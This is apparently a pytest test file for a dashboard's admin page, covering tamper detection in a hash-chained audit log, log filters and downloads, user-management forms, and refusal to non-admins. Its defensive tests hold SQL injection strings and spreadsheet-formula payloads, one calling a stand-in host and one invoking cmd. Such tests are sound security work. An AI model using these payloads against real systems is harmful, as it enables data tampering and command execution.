"""The admin page 审计与用户 (AppTest, over the demo city): the hash chain's status, before and
after the audit file is tampered with; the filters, injection strings included; the user
forms, each change audited with the administrator as actor; and refusal of all of it to a
viewer without the admin right, by the page and by the data layer."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard import data, user_admin
from dashboard.viewer import OutOfScope, Viewer
from pipelines.access import audit, users
from tests.signin import PASSWORDS, app, capture_downloads

INJECTIONS = ("' OR 1=1 --", "%", ";DROP TABLE audit_log")
DENIED = "该内容不在您的权限范围内"


@pytest.fixture
def own_users(access_files, demo_users, monkeypatch, tmp_path) -> Path:
    """A copy of the demo users for this test to change (the fixture's file is shared)."""
    path = tmp_path / "users.json"
    shutil.copy(demo_users, path)
    path.chmod(0o600)
    monkeypatch.setenv("PBI_USERS", str(path))
    return path


def _history() -> None:
    """A few days' worth of events, all within the page's default week."""
    audit.record("district", "login_ok", subject="district", client="10.0.0.7", detail={"method": "password"})
    audit.record("district", "download", what="rankings.csv", scope="西湖区", rows=12, detail={"level": "grid"})
    audit.record("street", "login_failed", subject="street", detail={"method": "password"})
    audit.record("city", "download", what="members.csv", scope="", rows=40, detail={"note": "50% of ' OR 1=1 --"})
    audit.record("os:root", "user_added", subject="new-one", scope="西湖区", detail={"role": "区级"})


def _admin(monkeypatch, db: Path) -> AppTest:
    at = app(monkeypatch, db, "admin", user="admin")
    assert not at.exception, at.exception
    return at


def _log(at: AppTest) -> pd.DataFrame:
    return at.dataframe[0].value


def _user_list(at: AppTest) -> pd.DataFrame:
    return at.dataframe[1].value


def _events(event: str | None = None) -> pd.DataFrame:
    log = audit.read().sort_values("seq")
    return log if event is None else log[log["event"] == event]


def _text(at: AppTest) -> str:
    parts = [str(e.value) for kind in ("title", "markdown", "caption", "error", "success") for e in getattr(at, kind)]
    parts += [e.value.to_csv() for e in at.dataframe]
    return "\n".join(parts)


# --- the chain ----------------------------------------------------------------------------------


def test_chain_intact_then_broken_after_tampering(monkeypatch, published_demo):
    _history()
    at = _admin(monkeypatch, published_demo)
    assert at.title[0].value == "审计与用户"
    assert "共 5 条，校验链完整" in at.success[0].value and not at.error
    assert list(_log(at)["序号"]) == [5, 4, 3, 2, 1]
    assert list(_log(at)["事件"])[-1] == "登录成功" and _log(at)["来源"].iloc[-1] == "10.0.0.7"

    with duckdb.connect(str(audit.audit_path())) as con:
        con.execute("UPDATE audit_log SET row_count = 4000 WHERE seq = 2")
    at.run()
    assert not at.exception
    assert [e.value for e in at.error] == ["审计日志共 5 条，校验链在这些序号处断开，可能被改动或删除：2"]
    assert not any("校验链完整" in s.value for s in at.success)

    with duckdb.connect(str(audit.audit_path())) as con:
        con.execute("DELETE FROM audit_log WHERE seq = 4")
    at.run()
    assert at.error[0].value.endswith("：2、5")


def test_english_chain_status(monkeypatch, published_demo):
    _history()
    at = app(monkeypatch, published_demo, "admin", user="admin", lang="en")
    assert "5 events; the hash chain is intact" in at.success[0].value


# --- filters ------------------------------------------------------------------------------------


def test_filters_by_event_and_person(monkeypatch, published_demo):
    _history()
    at = _admin(monkeypatch, published_demo)
    assert len(_log(at)) == 5
    at.multiselect(key="a_events").set_value(["download"]).run()
    assert list(_log(at)["内容"]) == ["members.csv", "rankings.csv"] and set(_log(at)["事件"]) == {"下载"}
    at.multiselect(key="a_people").set_value(["district"]).run()
    assert list(_log(at)["内容"]) == ["rankings.csv"]
    assert "显示 1 条（最新在前）。" in [c.value for c in at.main.caption]
    at.multiselect(key="a_events").set_value([]).run()  # district as actor or subject, any event
    assert list(_log(at)["序号"]) == [2, 1]
    at.multiselect(key="a_people").set_value(["new-one"]).run()  # a subject only: no longer a user
    assert list(_log(at)["事件"]) == ["添加用户"]
    at.multiselect(key="a_people").set_value([]).run()
    at.text_input(key="a_text").input("西湖区").run()
    assert list(_log(at)["序号"]) == [5, 2]


def test_date_filter(monkeypatch, published_demo):
    audit.record("district", "login_ok", subject="district", at=audit.now() - dt.timedelta(days=30))
    audit.record("city", "login_ok", subject="city")
    at = _admin(monkeypatch, published_demo)
    assert list(_log(at)["操作人"]) == ["city"]  # the default week
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).date()
    at.date_input(key="a_dates").set_value((today - dt.timedelta(days=40), today)).run()
    assert list(_log(at)["操作人"]) == ["city", "district"]


def test_injection_strings_in_the_text_filter(monkeypatch, published_demo):
    _history()
    at = _admin(monkeypatch, published_demo)
    expected = {"' OR 1=1 --": [4], "%": [4], ";DROP TABLE audit_log": []}  # literal matches only
    for value in INJECTIONS:
        at.text_input(key="a_text").input(value).run()
        assert not at.exception, value
        assert list(_log(at)["序号"]) == expected[value], value
    at.text_input(key="a_text").input("_").run()  # not a wildcard either
    assert list(_log(at)["序号"]) == []
    for value in INJECTIONS:  # as a person too
        at.multiselect(key="a_people").set_value([value]).run()
        assert not at.exception and _log(at).empty, value
    assert audit.verify() == (5, [])
    assert len(audit.read()) == 5
    at.multiselect(key="a_people").set_value([])
    at.text_input(key="a_text").input("").run()
    assert "共 5 条，校验链完整" in at.success[0].value and len(_log(at)) == 5


def test_the_audit_download_holds_the_table_and_is_audited(monkeypatch, published_demo):
    _history()
    payloads = capture_downloads(monkeypatch)
    at = _admin(monkeypatch, published_demo)
    at.multiselect(key="a_events").set_value(["download"]).run()
    (name,) = [n for n in payloads if n.startswith("audit_")]
    frame = pd.read_csv(pd.io.common.BytesIO(payloads[name]), encoding="utf-8-sig")
    assert list(frame["序号"]) == [4, 2]
    at.get("download_button")[0].click().run()
    downloads = _events("download")
    event = downloads.iloc[-1]
    assert (event["actor"], event["what"], event["row_count"], event["scope"]) == ("admin", "audit.csv", 2, "")
    assert json.loads(event["detail"])["events"] == ["download"]


def test_names_typed_at_sign_in_cannot_become_spreadsheet_formulas(monkeypatch, published_demo):
    """Anyone can type a name at sign-in, and a failed one lands in the audit log: the audit
    download (opened in Excel, hence the BOM) must not turn it into a formula."""
    forged = ('=HYPERLINK("http://x.example/?"&A2,"x")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3")
    at = app(monkeypatch, published_demo, user=None)
    for name in forged:
        at.text_input(key="login_name").input(name)
        at.text_input(key="login_password").input("wrong-password-1")
        at = at.button[0].click().run()
    typed = [users.lookup_key(n) for n in forged]  # sign-in names are case-folded (issue 19, case 13)
    assert list(_events("login_failed")["subject"]) == typed
    payloads = capture_downloads(monkeypatch)
    _admin(monkeypatch, published_demo)
    (name,) = [n for n in payloads if n.startswith("audit_")]
    frame = pd.read_csv(pd.io.common.BytesIO(payloads[name]), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(frame) == len(forged)
    cells = frame.to_numpy().ravel()
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(frame["涉及用户"]) == sorted("'" + n for n in typed)  # shown as text


# --- the user forms -----------------------------------------------------------------------------


def _form(at: AppTest, form_id: str) -> dict[tuple[str, str], object]:
    """The widgets of a form by (kind, label)."""
    block = next(f for f in at.get("form") if f.proto.form.form_id == form_id)
    return {(type(w).__name__, w.label): w for w in block if hasattr(w, "label")}


def _submit(at: AppTest, form_id: str, label: str) -> AppTest:
    return at.button(key=f"FormSubmitter:{form_id}-{label}").click().run()


def _add(
    at: AppTest, name: str, role: str, unit: str, password: str, again: str | None = None, **flags: bool
) -> AppTest:
    form = _form(at, "a_add")
    form[("TextInput", "用户名")].input(name)
    form[("Selectbox", "角色")].set_value(role)
    form[("TextInput", "单位")].input(unit)
    form[("Checkbox", "可见姓名")].set_value(flags.get("pii", False))
    form[("Checkbox", "管理员")].set_value(flags.get("admin", False))
    form[("TextInput", "密码")].input(password)
    form[("TextInput", "再输一次密码")].input(password if again is None else again)
    return _submit(at, "a_add", "添加用户")


def test_add_a_user(monkeypatch, published_demo, own_users):
    at = _admin(monkeypatch, published_demo)
    at = _add(at, "new-district", "区级", " 西湖区 ", "new-district-pw1", pii=True)
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert "已添加用户 new-district。" in [s.value for s in at.success]
    user = users.load()["new-district"]
    assert (user.role, user.unit, user.pii, user.admin) == ("区级", "西湖区", True, False)
    assert users.verify(users.load(), "new-district", "new-district-pw1") is not None
    assert "new-district" in set(_user_list(at)["用户名"])
    added = _events("user_added")
    assert list(zip(added["actor"], added["subject"], added["scope"], strict=True)) == [
        ("admin", "new-district", "西湖区")
    ]
    assert json.loads(added["detail"].iloc[0]) == {
        "role": "区级",
        "unit": "西湖区",
        "pii": True,
        "admin": False,
        "approve": False,
    }
    assert "new-district" in set(_log(at)["涉及用户"])  # the log on the page shows it at once
    assert "new-district-pw1" not in own_users.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (("x-community", "社区", "西湖区", "x-community-pw1"), "社区用户的单位应写作"),
        (("x-district", "区级", "东湖区", "x-district-pw1"), "数据中没有这个单位"),
        (("x-city", "市级", "西湖区", "x-city-pw-0001"), "市级用户不绑定单位"),
        (("x-short", "市级", "", "short"), "密码至少 10 个字符"),
        (("city", "市级", "", "another-password-1"), "用户已存在"),
        (("x y", "市级", "", "another-password-1"), "不含空格"),
        (("x-admin", "区级", "西湖区", "x-admin-pw-0001", {"admin": True}), "管理员须为市级用户"),
    ],
)
def test_an_invalid_add_shows_why_and_changes_nothing(monkeypatch, published_demo, own_users, fields, message):
    at = _admin(monkeypatch, published_demo)
    before = own_users.read_bytes()
    flags = fields[4] if len(fields) > 4 else {}
    at = _add(at, *fields[:4], **flags)
    assert not at.exception
    assert len(at.error) == 1 and message in at.error[0].value, [e.value for e in at.error]
    assert "(" in at.error[0].value  # the English follows
    assert own_users.read_bytes() == before
    assert _events("user_added").empty
    assert set(_user_list(at)["用户名"]) == set(PASSWORDS)


def test_passwords_that_differ_are_refused(monkeypatch, published_demo, own_users):
    at = _admin(monkeypatch, published_demo)
    before = own_users.read_bytes()
    at = _add(at, "x-new", "市级", "", "one-password-1", again="another-password-1")
    assert [e.value for e in at.error] == ["两次输入的密码不一致。"]
    assert own_users.read_bytes() == before and _events().empty


def test_set_a_password(monkeypatch, published_demo, own_users):
    at = _admin(monkeypatch, published_demo)
    form = _form(at, "a_password")
    form[("Selectbox", "用户名")].set_value("street")
    form[("TextInput", "密码")].input("street-new-password")
    form[("TextInput", "再输一次密码")].input("street-new-password")
    at = _submit(at, "a_password", "重置密码")
    assert not at.error and any("已重置 street 的密码" in s.value for s in at.success)
    known = users.load()
    assert users.verify(known, "street", "street-new-password") is not None
    assert users.verify(known, "street", PASSWORDS["street"]) is None
    changed = _events("password_changed")
    assert list(zip(changed["actor"], changed["subject"], strict=True)) == [("admin", "street")]

    form = _form(at, "a_password")  # too short: refused, nothing changes
    form[("Selectbox", "用户名")].set_value("city")
    form[("TextInput", "密码")].input("short")
    form[("TextInput", "再输一次密码")].input("short")
    at = _submit(at, "a_password", "重置密码")
    assert "密码至少" in at.error[0].value
    assert users.verify(users.load(), "city", PASSWORDS["city"]) is not None
    assert len(_events("password_changed")) == 1


def test_unlock(monkeypatch, published_demo, own_users):
    for _ in range(5):
        audit.record("street", "login_failed", subject="street")
    assert audit.locked_until("street") is not None
    at = _admin(monkeypatch, published_demo)
    listing = _user_list(at).set_index("用户名")
    assert listing.loc["street", "锁定至"] != "—" and listing.loc["city", "锁定至"] == "—"
    form = _form(at, "a_unlock")
    assert form[("Selectbox", "用户名")].options == ["street"]  # only the locked are offered
    at = _submit(at, "a_unlock", "解除锁定")
    assert any("已解除 street 的锁定" in s.value for s in at.success)
    assert audit.locked_until("street") is None
    assert _user_list(at).set_index("用户名").loc["street", "锁定至"] == "—"
    unlocked = _events("user_unlocked")
    assert list(zip(unlocked["actor"], unlocked["subject"], strict=True)) == [("admin", "street")]


def test_remove_needs_the_confirm_tick(monkeypatch, published_demo, own_users):
    at = _admin(monkeypatch, published_demo)
    form = _form(at, "a_remove")
    form[("Selectbox", "用户名")].set_value("community")
    at = _submit(at, "a_remove", "删除用户")
    assert [e.value for e in at.error] == ["请先勾选确认。"]
    assert "community" in users.load() and _events("user_removed").empty

    form = _form(at, "a_remove")
    form[("Selectbox", "用户名")].set_value("community")
    form[("Checkbox", "确认删除该用户")].check()
    at = _submit(at, "a_remove", "删除用户")
    assert not at.error and any("已删除用户 community" in s.value for s in at.success)
    assert "community" not in users.load()
    assert "community" not in set(_user_list(at)["用户名"])
    removed = _events("user_removed")
    assert list(zip(removed["actor"], removed["subject"], strict=True)) == [("admin", "community")]
    assert json.loads(removed["detail"].iloc[0])["role"] == "社区"


def test_an_admin_cannot_remove_themself(monkeypatch, published_demo, own_users):
    at = _admin(monkeypatch, published_demo)
    form = _form(at, "a_remove")
    form[("Selectbox", "用户名")].set_value("admin")
    form[("Checkbox", "确认删除该用户")].check()
    at = _submit(at, "a_remove", "删除用户")
    assert "不能删除自己" in at.error[0].value
    assert "admin" in users.load() and _events("user_removed").empty


# --- viewers without the admin right ------------------------------------------------------------


@pytest.mark.parametrize(("user", "scope"), [("city", ""), ("district", "西湖区")])
def test_a_typed_admin_url_is_refused_and_audited(monkeypatch, published_demo, user, scope):
    """The page is not listed for a non-admin, but /admin typed in the address bar reaches it:
    its data layer refuses, the refusal is shown and audited, and nothing of the log."""
    _history()
    at = app(monkeypatch, published_demo, "admin", user=user)
    assert not at.exception
    assert at.session_state["pbi_viewer"].admin is False
    assert [e.value for e in at.error] == ["该内容不在您的权限范围内。此次访问已记录。"]
    assert not at.success and not at.dataframe and not at.get("download_button")
    shown = _text(at)
    assert "rankings.csv" not in shown and "10.0.0.7" not in shown and "$argon2" not in shown
    denied = _events("access_denied")
    assert list(zip(denied["actor"], denied["what"], denied["scope"], strict=True)) == [(user, "audit_chain", scope)]


@pytest.mark.parametrize("user", ["city", "district"])
def test_the_data_layer_refuses_non_admins(monkeypatch, published_demo, own_users, user):
    _history()
    known = users.load()[user]
    viewer = Viewer(known.name, known.role, known.scope, known.pii, known.admin)
    monkeypatch.setattr(data, "viewer", lambda: viewer)
    monkeypatch.setattr(user_admin, "viewer", lambda: viewer)
    before = own_users.read_bytes()
    with pytest.raises(OutOfScope):
        data.audit_log(None, None, [], [], "")
    with pytest.raises(OutOfScope):
        data.audit_chain()
    with pytest.raises(OutOfScope):
        data.user_table()
    for change, args in (
        (user_admin.add, ("x-new", "市级", "", "x-new-password", True, True)),
        (user_admin.set_password, ("admin", "taken-over-password")),
        (user_admin.remove, ("admin",)),
        (user_admin.unlock, ("street",)),
    ):
        with pytest.raises(OutOfScope):
            change(*args)
    assert own_users.read_bytes() == before and len(audit.read()) == 5

    admin = users.load()["admin"]  # and the same calls work for an administrator
    monkeypatch.setattr(data, "viewer", lambda: Viewer(admin.name, admin.role, admin.scope, admin.pii, admin.admin))
    assert len(data.audit_log(None, None, [], [], "")) == 5 and data.audit_chain() == (5, [])
    assert set(data.user_table()["name"]) == set(PASSWORDS)
